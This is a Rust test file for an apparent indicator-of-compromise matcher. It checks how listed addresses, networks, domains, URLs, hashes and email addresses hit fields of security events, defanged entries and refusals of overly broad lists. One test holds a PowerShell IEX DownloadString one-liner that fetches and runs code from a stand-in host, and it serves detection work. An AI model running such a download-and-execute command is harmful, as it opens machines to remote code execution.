//! What hits what. The answers were written before the code ran.

use super::{hit, indicators, refused, told};

fn check(list: &str, field: &str, value: &str, expected: &[&str]) {
    assert_eq!(hit(&indicators(list), field, value), expected, "{list:?} against {field}={value}");
}

#[test]
fn addresses_and_networks() {
    check("192.0.2.7", "source.ip", "192.0.2.7", &["list:address:192.0.2.7"]);
    check("192.0.2.7", "source.ip", "192.0.2.77", &[]);
    check("192.0.2.7", "source.ip", "::ffff:192.0.2.7", &["list:address:192.0.2.7"]);
    check("::ffff:192.0.2.7", "destination.ip", "192.0.2.7", &["list:address:192.0.2.7"]);
    check("192.0.2.7:8080", "destination.ip", "192.0.2.7", &["list:address:192.0.2.7"]);
    check("2001:DB8:0::7", "source.ip", "2001:db8::7", &["list:address:2001:db8::7"]);
    check("[2001:db8::7]:443", "source.ip", "2001:db8::7", &["list:address:2001:db8::7"]);
    check("198.51.100.0/24", "source.ip", "198.51.100.255", &["list:network:198.51.100.0/24"]);
    check("198.51.100.0/24", "source.ip", "198.51.101.0", &[]);
    check("198.51.100.77/24", "source.ip", "198.51.100.1", &["list:network:198.51.100.0/24"]);
    check("198.51.100.7/32", "source.ip", "198.51.100.7", &["list:address:198.51.100.7"]);
    check(
        "198.51.0.0/16\n198.51.100.0/24",
        "source.ip",
        "198.51.100.9",
        &["list:network:198.51.0.0/16", "list:network:198.51.100.0/24"],
    );
    check("11.0.0.0/8", "source.ip", "11.255.0.1", &["list:network:11.0.0.0/8"]);
    check("::ffff:198.51.100.0/120", "source.ip", "198.51.100.3", &["list:network:198.51.100.0/24"]);
    check("2001:db8::/32", "source.ip", "2001:db8:ffff::1", &["list:network:2001:db8::/32"]);
    check("2001:db8::/32", "source.ip", "2001:db9::1", &[]);
    check("198.51.100.0/255.255.255.0", "source.ip", "198.51.100.9", &["list:network:198.51.100.0/24"]);
    check("198.51.100.0/255.0.255.0", "source.ip", "198.51.100.9", &[]);
    check("192.0.2.7", "vendor.peer", "192.0.2.7:51234", &["list:address:192.0.2.7"]);
    check("192.0.2.7", "winlog.event_data.IpAddress", "192.0.2.7", &["list:address:192.0.2.7"]);
}

#[test]
fn domains_hit_what_is_below_them_and_nothing_beside() {
    let hits = &["list:domain:evil.example"];
    check("evil.example", "dns.question.name", "evil.example", hits);
    check("evil.example", "dns.question.name", "a.b.Evil.Example.", hits);
    check("*.evil.example", "dns.question.name", "a.evil.example", hits);
    check("evil.example.", "destination.domain", "evil.example", hits);
    check("evil.example", "dns.question.name", "notevil.example", &[]);
    check("evil.example", "dns.question.name", "evil.example.net", &[]);
    check("a.evil.example", "dns.question.name", "evil.example", &[]);
    check("evil.example", "url.full", "https://a.evil.example/x", hits);
    check("evil.example", "email.from.address", "eve@mail.evil.example", hits);
    check("evil.example", "vendor.sni", "evil.example:8443", hits);
    check("bücher.example", "dns.question.name", "xn--bcher-kva.example", &["list:domain:xn--bcher-kva.example"]);
    check("bücher.example", "dns.question.name", "www.bücher.example", &["list:domain:xn--bcher-kva.example"]);
    // A file, and the own house.
    check("evil.example", "file.name", "evil.example", &[]);
    check("evil.example", "host.name", "web.evil.example", &[]);
}

#[test]
fn urls_with_and_without_scheme() {
    let hits = &["list:url:evil.example/gate.php"];
    check("http://evil.example/gate.php", "url.full", "http://evil.example/gate.php", hits);
    check("evil.example/gate.php", "url.full", "https://EVIL.example:443/gate.php", hits);
    check("http://evil.example/gate.php", "url.original", "evil.example/gate.php?id=7", hits);
    check("http://evil.example/gate.php", "url.full", "http://evil.example/GATE.php", &[]);
    check("http://evil.example/gate.php?id=7", "url.full", "http://evil.example/gate.php?id=8", &[]);
    check("http://evil.example/gate.php", "url.full", "http://evil.example:8080/gate.php", &[]);
    check("http://evil.example", "url.full", "http://evil.example/", &["list:url:evil.example/"]);
    check("http://192.0.2.7/a", "url.full", "http://192.0.2.7/a", &["list:url:192.0.2.7/a"]);
    check("192.0.2.7", "url.full", "http://192.0.2.7:8080/a", &["list:address:192.0.2.7"]);
    let v6 = &["list:url:[2001:db8::7]/a"];
    check("http://[2001:DB8:0:0::7]/a", "url.full", "https://[2001:db8::7]/a", v6);
    check("http://[2001:db8::7]/a", "url.full", "https://[2001:0db8::0007]/a", v6);
    assert_eq!(refused("http://[evil]/a"), ["line 1 list.value_unknown"]);
    check("192.0.2.7/index.html", "url.full", "http://192.0.2.7/index.html", &["list:url:192.0.2.7/index.html"]);
    let script = "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/gate.php')\"";
    check("http://evil.example/gate.php", "process.command_line", script, hits);
    check("evil.example", "process.command_line", script, &["list:domain:evil.example"]);
}

#[test]
fn hashes_and_mail_addresses() {
    let md5 = "0123456789abcdef0123456789abcdef";
    let sha256 = "a1".repeat(32);
    check(md5, "file.hash.md5", &md5.to_uppercase(), &[&format!("list:md5:{md5}")]);
    check(&sha256, "vendor.sum", &sha256, &[&format!("list:sha256:{sha256}")]);
    check(&"ab".repeat(20), "file.hash.sha1", &"AB".repeat(20), &[&format!("list:sha1:{}", "ab".repeat(20))]);
    check(&"ab".repeat(64), "vendor.sum", &"ab".repeat(64), &[&format!("list:sha512:{}", "ab".repeat(64))]);
    let sysmon = format!("MD5={},SHA256={}", md5.to_uppercase(), sha256.to_uppercase());
    check(
        &format!("{md5}\n{sha256}"),
        "vendor.Hashes",
        &sysmon,
        &[&format!("list:md5:{md5}"), &format!("list:sha256:{sha256}")],
    );
    check("eve@evil.example", "email.from.address", "Eve@Evil.Example", &["list:email:eve@evil.example"]);
    check("eve@evil.example", "email.from.address", "eve@example.org", &[]);
    let ascii = &["list:email:eve@xn--bcher-kva.example"];
    check("eve@bücher.example", "email.from.address", "Eve@bücher.example", ascii);
    check("mailto:eve+x@evil.example", "user.email", "eve+x@evil.example", &["list:email:eve+x@evil.example"]);
}

#[test]
fn a_windows_event_is_read_under_its_own_names() {
    let lists = indicators("192.0.2.7\nevil.example\na1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1");
    let sysmon = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"pc.evil.example"},
        "EventData":{"DestinationIp":"192.0.2.7","DestinationHostname":"c2.evil.example","Hashes":"SHA1=00,MD5=A1A1A1A1A1A1A1A1A1A1A1A1A1A1A1A1"}}}"##.replace('\n', "");
    let mut told: Vec<String> =
        told(&lists, &sysmon).iter().map(|told| told.split(" -> ").last().unwrap().to_owned()).collect();
    told.sort();
    assert_eq!(
        told,
        ["list:address:192.0.2.7", "list:domain:evil.example", "list:md5:a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1"]
    );
    let answer = r#"{"winlog":{"event_data":{"QueryResults":"type:  5 c2.evil.example;::ffff:192.0.2.7;"}}}"#;
    assert_eq!(super::told(&lists, answer).len(), 2, "a name and an address within an answer");
}

#[test]
fn the_words_of_a_message_are_read() {
    let lists = indicators("192.0.2.7");
    assert_eq!(
        hit(&lists, "message", "Failed password for root from 192.0.2.7 port 22 ssh2"),
        ["list:address:192.0.2.7"]
    );
    assert_eq!(hit(&lists, "message", "denied src=192.0.2.7, dst=10.0.0.1."), ["list:address:192.0.2.7"]);
    assert!(hit(&lists, "message", "version 192.0.2.71").is_empty());
}

#[test]
fn what_is_defanged_is_meant() {
    for list in [
        "evil[.]example",
        "evil(.)example",
        "evil[dot]example",
        "hxxp://evil[.]example/x",
        "hxxps[://]evil.example/x",
        "eve[@]evil[.]example",
        "192[.]0[.]2[.]7",
    ] {
        assert!(refused(list).is_empty(), "{list}: {:?}", refused(list));
    }
    check("hxxp://evil[.]example/x", "url.full", "http://evil.example/x", &["list:url:evil.example/x"]);
    check("[.]evil[.]example", "dns.question.name", "a.evil.example", &["list:domain:evil.example"]);
    check("hxxp.example", "dns.question.name", "hxxp.example", &["list:domain:hxxp.example"]);
}

#[test]
fn what_would_hit_everything_is_refused_with_its_place() {
    let list = "0.0.0.0/0\ncom\nco.uk\nd41d8cd98f00b204e9800998ecf8427e\n::/0\n127.0.0.1\n0.0.0.0\n10.0.0.0/7\n\
                00000000000000000000000000000000\ngithub.io\nlocalhost\nupdate.exe\nDA39A3EE5E6B4B0D3255BFEF95601890AFD80709\n::ffff:0.0.0.0/96\n255.255.255.255\n192.0.2.0/33\n\
                127.0.0.0/8\n::/64";
    assert_eq!(
        refused(list),
        [
            "line 1 list.network_too_wide",
            "line 2 list.public_suffix",
            "line 3 list.public_suffix",
            "line 4 list.hash_empty",
            "line 5 list.network_too_wide",
            "line 6 list.address_special",
            "line 7 list.address_special",
            "line 8 list.network_too_wide",
            "line 9 list.hash_empty",
            "line 10 list.public_suffix",
            "line 11 list.value_unknown",
            "line 12 list.value_unknown",
            "line 13 list.hash_empty",
            "line 14 list.network_too_wide",
            "line 15 list.address_special",
            "line 16 list.address",
            "line 17 list.address_special",
            "line 18 list.address_special",
        ]
    );
    assert_eq!(indicators(list).indicators.len(), 0);
}

#[test]
fn one_value_on_several_lists_is_told_for_each() {
    use super::{Role, file, now};
    let files =
        [file(Role::Indicators, "a", "evil.example"), file(Role::Indicators, "b", "evil.example\nevil.example")];
    let lists = super::Lists::read(files, now());
    assert_eq!(hit(&lists, "dns.question.name", "evil.example"), ["a:domain:evil.example", "b:domain:evil.example"]);
    assert_eq!(lists.reports.iter().map(|report| report.entries).collect::<Vec<_>>(), [1, 1]);
    assert_eq!(lists.indicators.len(), 1);
}

#[test]
fn one_indicator_is_told_once_an_event() {
    let lists = indicators("evil.example");
    let event = r#"{"dns":{"question":{"name":"a.evil.example"}},"destination":{"domain":"b.evil.example"},"vendor":["evil.example","evil.example"]}"#;
    assert_eq!(told(&lists, event), ["dns.question.name=a.evil.example -> list:domain:evil.example"]);
}

#[test]
fn what_one_list_says_twice_counts_once_and_for_the_longest() {
    use super::{Role, file, now};
    use crate::indicators::Answer;
    let often: String = (1..=28).map(|day| format!("evil.example,{day},2026-04-{day:02}\n")).rev().collect();
    let files = [
        file(Role::Indicators, "a.csv", &format!("value,confidence,valid_until\n{often}")),
        file(Role::Indicators, "b.csv", "value,confidence\nevil.example,7\n"),
    ];
    let lists = super::Lists::read(files, now());
    let Answer::Hits(hits) = lists.indicators.answer(0, "evil.example", now()) else { panic!("no hit") };
    let told: Vec<_> = hits.iter().map(|hit| (hit.list.as_str(), hit.confidence)).collect();
    assert_eq!(told, [("a.csv", Some(28)), ("b.csv", Some(7))]);
    assert_eq!(lists.reports[0].entries, 1);
}

#[test]
fn why_an_alert_is_there_is_said_of_the_very_value() {
    for (kind, value, seen) in [
        ("url", "evil.example/a,", "http://evil.example/a,"),
        ("url", "evil.example/a b", "http://evil.example/a b"),
        ("network", "192.0.2.0/24", "192.0.2.9"),
        (
            "sha256",
            "a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1",
            "a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1",
        ),
    ] {
        let why = |seen: &str| {
            let event = super::event(&serde_json::json!({ "url": {"full": seen} }).to_string());
            crate::indicators::explain_indicator(&[format!("indicator.{kind}:{value}")], &event).unwrap().holds
        };
        assert!(why(seen), "{value}");
        assert!(!why("http://good.example/"), "{value}");
    }
    assert!(crate::indicators::explain_indicator(&["indicator.colour:red".to_owned()], &super::event("{}")).is_none());
}
